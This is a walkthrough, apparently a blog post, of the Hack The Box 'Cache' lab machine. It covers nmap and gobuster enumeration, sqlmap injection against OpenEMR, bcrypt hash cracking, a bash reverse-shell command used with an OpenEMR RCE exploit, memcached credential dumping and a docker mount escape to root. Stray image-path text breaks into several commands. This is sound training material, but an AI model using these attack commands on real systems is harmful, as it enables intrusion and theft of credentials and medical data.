Cache - [HTB]

Cover Image for Cache - [HTB]


Cache is a medium level Hack The Box Machine, in which you have to "hack" into a hacker's website, that lately will become a medical login portal in order to get a user. Then, you will have to enumerate several local services to find a special credentials, which allow you to become root through docker containers.


As always I start scanning all open ports so I know every single service running.

kali@kali:$ sudo nmap -sS -T5 -n -p- -oN AllPorts.txt
Warning: givingup on port because retransmission cap hit (2).
Nmap scan report for
Host is up (0.039s latency).
Not shown: 65533 closed ports
22/tcp open  ssh
80/tcp open  http

# Nmap done at Fri Oct  2 11:05:44 2020 -- 1 IP address (1 host up) scanned in 64.95 seconds

Then, I execute a more in depth scan against all services that were found in the previous scan.

kali@kali:$ sudo nmap -sC -sV -n -p22,80 -oN PorsDepth.txt
Nmap scan report for
Host is up (0.038s latency).

22/tcp open  ssh     OpenSSH 7.6p1 Ubuntu 4ubuntu0.3 (Ubuntu Linux; protocol 2.0)
| ssh-hostkey:
|   2048 a9:2d:b2:a0:c4:57:e7:7c:35:2d:45:4d:db:80:8c:f1 (RSA)
|   256 bc:e4:16:3d:2a:59:a1:3a:6a:09:28:dd:36:10:38:08 (ECDSA)
|_  256 57:d5:47:ee:07:ca:3a:c0:fd:9b:a8:7f:6b:4c:9d:7c (ED25519)
80/tcp open  http    Apache httpd 2.4.29 ((Ubuntu))
|_http-server-header: Apache/2.4.29 (Ubuntu)
|_http-title: Cache
Service Info: OS: Linux; CPE: cpe:/o:linux:linux_kernel

Service detection performed. Please report any incorrect results at .
# Nmap done at Fri Oct  2 11:06:27 2020 -- 1 IP address (1 host up) scanned in 10.65 seconds

Because there is only two services and one of them is SSH, which never has vulnerabilities associate to it, I don't have any no option but start analyzing the HTTP service.At first view I don't see anything interesting, so I used gobuster to find any hidden folder.

kali@Kali:$ gobuster -t 20 dir -u -w /usr/share/wordlists/dirbuster/directory-list-2.3-medium.txt -o directories.txt
Gobuster v3.0.1
by OJ Reeves (@TheColonial) & Christian Mehlmauer (@_FireFart_)
[+] Url:
[+] Threads:        20
[+] Wordlist:       /usr/share/wordlists/dirbuster/directory-list-2.3-medium.txt
[+] Status codes:   200,204,301,302,307,401,403
[+] User Agent:     gobuster/3.0.1
[+] Timeout:        10s
2020/10/06 16:44:22 Starting gobuster
/javascript (Status: 301)
/jquery (Status: 301)
/server-status (Status: 403)
2020/10/06 16:53:26 Finished

Inside the /jquery folder there is functionality.js file.


Looking at the code there are some hard written credentials, that can be used in the "login" section of the main web page.As you can see this page is under construction and there isn't anything useful.


However, in the author page the "hacker" is talking about two projects: One named cache with its corresponding domain "cache.htb" and another project "HMS" (Hospital Management System).


Using "hms.htb" as domain, appears an openEMR login portal. (OpenEMR is an open-source electronic medical record and practice management software.)



Through this document you can see that openEMR is vulnerable to several SQLi attacks, starting with the find_appt_popup_user.php file I got this page.

Note: In order to perform the sql injection attack you need to createan account at http://hms.htb/portal/index.php?site=default\&w


I stored the HTTP request in a txt file using burp.


This request can be used with sqlmap in order to do sql injections obtaining the databases.

kali@kali:$ sqlmap -r request.txt --dbs --batch
available databases [2]:
[*] information_schema
[*] openemr

Note: The --batch is used for never ask for user input, using the default sqlmap behavior

Then, using sqlmap we can get the tables inside the openemr database.

kali@kali:$ sqlmap -r request.txt --threads=10 -D openemr --tables --batchFinally, the user information is at the users_secure table, so using nmap we can dump it.

kali@kali:$ sqlmap -r request.txt --threads=10 -D openemr -T users_secure --dump
            SALT                                        PASSWORD                                       USER
| $2a$05$l2sTLIG6GTBeyBf7TAKL6A$ | $2a$05$l2sTLIG6GTBeyBf7TAKL6.ttEwJDmxs9bI6LXqlfCpEcY6VF6P0B. | openemr_admin |

The password can be cracked using John The Ripper (the hash.txt file looks like this "openemr_admin:$2a$05$l2sTLIG6GTBeyBf7TAKL6.ttEwJDmxs9bI6LXqlfCpEcY6VF6P0B.")

kali@kali:$ john -w=/usr/share/wordlists/rockyou.txt hash.txt
Using default input encoding: UTF-8
Loaded 1 password hash (bcrypt [Blowfish 32/64 X3])Cost 1 (iteration count) is 32 for all loaded hashes
Will run 3 OpenMP threads
Press 'q' or Ctrl-C to abort, almost any other key for status
xxxxxx           (openemr_admin)
1g 0:00:00:00 DONE (2020-10-07 18:55) 2.777g/s 2400p/s 2400c/s 2400C/s lester..felipe
Use the "--show" option to display all of the cracked passwords reliably
Session completed

This credentials can be used with the exploit "5.0.1 - (Authenticated) Remote Code Execution" in order to get a reverse shell.

{Shell 1}:$ rlwrap nc -nlvp 4444
{Shell 2}:$ python -u openemr_admin -p xxxxxx -c  '/bin/bash -i >& /dev/tcp/ 0>&1' http://hms.htb

Later on, we can use python and ash credentials to get the user.txt flag.

www-data@cache:/var/www/hms.htb/public_html/interface$ python3 -c 'import pty;pty.spawn("/bin/bash")'
www-data@cache:/var/www/hms.htb/public_html/interface$ su - ash
su - ash
Password: H@v3_fun
ash@cache:~$ wc -c user.txt
33 user.txt

Privilege escalation 1

Using netstat we can find a weird listening port "11211".

ash@cache:~$ netstat -putona
Proto Recv-Q Send-Q Local Address           Foreign Address         State       PID/Program name     Timer
tcp        0      0*               LISTEN      -                    off (0.00/0/0)
tcp        0      0*               LISTEN      -                    off (0.00/0/0)
tcp        0      0 *               LISTEN      -                    off (0.00/0/0)
tcp        0      0    *               LISTEN      -                    off (0.00/0/0)
tcp        0    307       ESTABLISHED 3709/bash            on (0.24/0/0)
tcp        0      0         TIME_WAIT   -                    timewait (27.64/0/0)
tcp        0      1              SYN_SENT    -                    on (6.90/3/0)
tcp        0      0       CLOSE_WAIT  3452/bash            off (0.00/0/0)
tcp6       0      0 :::80                   :::*                    LISTEN      -                    off (0.00/0/0)
tcp6       0      0 :::22                   :::*                    LISTEN-                    off (0.00/0/0)
tcp6       1      0      CLOSE_WAIT  -                    keepalive (6623.12/0/0)
tcp6       0      0      ESTABLISHED -                    keepalive (7182.57/0/0)
udp        0      0 *                           -                    off (0.00/0/0)
udp        0      0           ESTABLISHED -                    off (0.00/0/0)

A quick search on San Google appears a penetration article for the service memcached. (Memcached server is used by corporations in order to increase the speed of their network as it helps to store frequently used data. This helps to take the load of the hardware and decrease the time taken.)

Following the article steps we can get the user "luffy" with a password "0n3_p1ec3".

telnet 11211
stats items
stats cachedump 1 0
get user
get passwd

This credentials can be used inside the linux machine to becoming the user luffy.

luffy@cache:~$ id
uid=1001(luffy) gid=1001(luffy) groups=1001(luffy),999(docker)

Privilege escalation 2

This user can run docker containers. Hence, taking a quick view to the gtfobins web page there is a command to get an interactive shell as root of the file system. However, the "alpine" image doesn't exists in this system, so we have to use ubuntu that is the one installed already.

luffy@cache:~$ docker run -v /:/mnt --rm -it ubuntuchroot /mnt sh
# wc -c /root/root.txt
33 /root/root.txt